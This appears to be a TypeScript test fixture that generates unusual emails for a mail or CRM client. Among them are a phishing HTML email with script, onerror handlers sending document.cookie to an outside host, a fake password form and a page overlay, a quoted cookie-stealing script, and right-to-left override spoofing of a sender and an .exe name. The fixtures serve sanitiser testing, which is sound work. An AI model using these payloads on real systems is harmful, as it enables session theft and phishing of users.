import { escapeHtml } from '../body/escape.ts';
import type { Almanac } from './almanac.ts';
import type { Letter } from './letter.ts';
import { OWN_BOX, SHARED_BOX, colleague } from './people.ts';

/** Letters at the edge: headers, subjects and texts that break programs which expect tidy ones. */
export function oddLetters(day: Almanac): Letter[] {
  return [
    {
      key: 'odd-cut-headers',
      box: OWN_BOX,
      from: 'Residents of Lindenstraße <residents@lindenstrasse.example>',
      to: `anna.weber@birchline.example, ${addresses(14, 'neighbour', 'lindenstrasse.example')}`,
      cc: addresses(22, 'owner', 'house-council.example'),
      subject: 'Scaffolding in front of house 12: meeting on Wednesday, 19:30',
      when: day.at(2, '20:01'),
      text: 'Dear neighbours, dear Ms Weber,\n\nthe scaffolding stays two weeks longer than announced. Before anybody calls a lawyer we would like to talk: Wednesday, 19:30, in the café on the corner. The table is booked until 21:00.\n\nFor the residents\nG. Adler',
    },
    {
      key: 'odd-no-subject',
      box: OWN_BOX,
      from: 'j.becker.privat@postfach.example',
      subject: '',
      when: day.ago(240),
      unread: true,
      dress: 'phone',
      text: 'phone is dead, writing from my private mail. i am at the site until 5, then dentist. the panels fit',
    },
    {
      key: 'odd-nothing',
      box: SHARED_BOX,
      from: '<scanner@birchline.example>',
      subject: '',
      when: day.at(3, '16:16'),
      attached: 'waiting',
      dress: 'plain',
      text: '',
    },
    {
      key: 'odd-long-subject',
      box: OWN_BOX,
      from: 'Planning office <planning@town-of-eastmere.example>',
      subject:
        'Re: Re: Fwd: Application 2026/00417 for the change of use of the ground floor of the former printing works, Harbour Road 9 to 11, from storage to exhibition with café, including the relocation of the fire door, objections received until the closing date and answers to them',
      when: day.at(7, '11:27'),
      text: 'Dear applicant,\n\nthe hearing is on the second Tuesday of next month at 14:00, room 2.11. Speakers have five minutes each.\n\nPlanning office',
    },
    {
      key: 'odd-subject-markup',
      box: SHARED_BOX,
      from: '"O\u2019Neill, Tara (Web)" <tara@pixelworks.example>',
      subject: '"Contact" form shows <script>alert(1)</script> & <b>bold</b> 😬',
      when: day.at(2, '10:45'),
      unread: true,
      text: 'Hi,\n\nyour contact form prints what people type without escaping it, see the subject. If somebody writes <img src=x onerror=alert(1)> in the name field, it runs on the thank-you page.\n\nFive lines to fix it: replace & with &amp; and < with &lt; before printing. I can do it this afternoon, between 15:00 and 17:00.\n\nTara',
    },
    {
      key: 'odd-rtl-name',
      box: OWN_BOX,
      from: '"Accounts \u202Emoc.knab-eurt\u202C" <pay@accounts-check.example>',
      subject: 'Statement \u202Efdp.exe',
      when: day.at(5, '03:33'),
      attached: 'waiting',
      text: 'Your statement is attached. Open it before 17:00 or your access is locked.',
    },
    {
      key: 'odd-nasty',
      box: OWN_BOX,
      from: 'Prize Centre <prizes@winners-circle.example>',
      subject: 'You have one new voucher',
      when: day.at(3, '23:48'),
      html: NASTY,
    },
    {
      key: 'odd-nasty-broken',
      box: SHARED_BOX,
      from: 'mailer@half-open.example',
      subject: 'Offer (broken layout)',
      when: day.at(6, '02:10'),
      html: '<p>The list starts here<table><tr><td>Table <b>A<td>Table B</b><a href="https://half-open.example/a>first</a><p>Price < 100 & more than 5 > 3<div style="color:red">no end<!-- and a comment that never closes <p>hidden',
    },
    {
      key: 'odd-encoded-script',
      box: OWN_BOX,
      from: colleague(10),
      subject: 'How the form was broken',
      when: day.at(1, '14:44'),
      html: '<div>Anna, this is what was typed into the field:</div><pre>&lt;script&gt;fetch("https://collect.example.net/?c=" + document.cookie)&lt;/script&gt;</pre><div>It is only text now &amp;mdash; the fix is live since 14:30. R&amp;D can stop worrying.</div><div>Peter</div>',
    },
    {
      key: 'odd-flowed',
      box: OWN_BOX,
      from: 'Hendrik Maas <hendrik@maas-bouw.example>',
      subject: 'Floor heating under the bench',
      when: day.at(5, '19:19'),
      dress: 'plain',
      text: 'Hello Anna, \n\nthe pipes run 4 cm under the surface, so nothing longer than 30 mm may \ngo into the floor within the blue line. I marked it with chalk, please \ntell the fitters not to wipe it away. \n\nI am there again the day after tomorrow from 7:45. \n\nHendrik\n-- \nMaas Bouw, Utrecht\ntel. +31 30 555 0121',
    },
    {
      key: 'odd-long-lines',
      box: SHARED_BOX,
      from: 'export@stock-sync.example',
      subject: 'Stock export, one line per warehouse',
      when: day.at(4, '05:00'),
      dress: 'plain',
      text: ['north', 'south']
        .map(
          (name) =>
            `${name};${Array.from({ length: 420 }, (_, index) => `A${10_000 + index}=${(index * 7) % 40}`).join(';')}`,
        )
        .join('\n'),
    },
    {
      key: 'odd-huge',
      box: SHARED_BOX,
      folder: 'INBOX.Archive',
      from: 'Holzwerk Nord <katalog@holzwerk-nord.example>',
      subject: 'Complete price list as text',
      when: day.at(15, '06:06'),
      html: hugePriceList(),
    },
    {
      key: 'odd-two-folders',
      box: OWN_BOX,
      folder: ['INBOX', 'Projects/Hotel Lindenhof'],
      from: 'Karin Brandt <k.brandt@hotel-lindenhof.example>',
      subject: 'Grundriss erster Stock, endgültig',
      when: day.at(3, '13:13'),
      attached: 'downloaded',
      bindings: [
        { type: 'crm', entityTypeId: 2, entityId: 21 },
        { type: 'crm', entityTypeId: 4, entityId: 41 },
      ],
      text: 'Liebe Anna,\n\nhier ist der endgültige Grundriss. Die Tür zum Lager ist jetzt links, der Rest bleibt.\n\nLiebe Grüße\nKarin',
    },
    {
      key: 'odd-signature',
      box: OWN_BOX,
      from: 'Müller Projektsteuerung <mueller@alt-mail.example>',
      subject: 'Unterlagen folgen',
      when: day.at(9, '08:28'),
      html: `<p>kommen morgen.</p><p>--<br>\nMüller Projektsteuerung GmbH &amp; Co. KG<br>\nHandelsregister 12345, Amtsgericht Neustadt<br>\nGeschäftsführer: Max Müller, Erika Müller</p><p style="font-size:8px;color:gray">${escapeHtml(
        'Diese E-Mail enthält vertrauliche Informationen. Wenn Sie nicht der richtige Adressat sind, löschen Sie diese Nachricht. Denken Sie an die Umwelt, bevor Sie drucken. '.repeat(
          4,
        ),
      )}</p>`,
    },
  ];
}

/** Markup that wants to run, cover the page, call home or lead away. */
const NASTY = `<html><head><base href="https://winners-circle.example/"><meta http-equiv="refresh" content="0;url=https://winners-circle.example/go">
<style>body{display:none}.cover{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999}</style>
<script>window.top.location='https://winners-circle.example/'</script></head>
<body onload="document.title='gone'">
<div class="cover" style="position:fixed;inset:0;background:#fff"><a href="javascript:alert(document.domain)">Get your voucher</a></div>
<img src="x" onerror="fetch('https://count.example.net/'+document.cookie)">
<img src="https://count.example.net/open/77.png" width="1" height="1">
<svg onload="alert(2)"><a xlink:href="javascript:alert(3)"><text y="20">claim it</text></a></svg>
<form action="https://winners-circle.example/login" method="post"><label>Your Bitrix24 password <input type="password" name="p" autofocus></label><button>Sign in</button></form>
<iframe src="https://winners-circle.example/frame"></iframe><object data="data:text/html,hi"></object>
<p style="margin-top:-500px">The voucher ends on Sunday at midnight.</p>
<a href="https://winners-circle.example/?to=bitrix24" target="_top">https://birchline.bitrix24.example/</a>
</body></html>`;

function addresses(count: number, name: string, host: string): string {
  return Array.from(
    { length: count },
    (_, index) => `"${name} ${index + 1}" <${name}.${index + 1}@${host}>`,
  ).join(', ');
}

/** About a megabyte of markup. */
function hugePriceList(): string {
  const rows = Array.from(
    { length: 11_500 },
    (_, index) =>
      `<tr><td>HN-${100_000 + index}</td><td>Leiste, ${8 + (index % 60)} × ${12 + (index % 90)} mm</td><td align="right">${(
        1.2 +
        (index % 977) / 100
      ).toFixed(2)} &euro;</td></tr>`,
  );
  return `<html><body><h1>Price list</h1>\n<table>\n${rows.join('\n')}\n</table>\n</body></html>`;
}
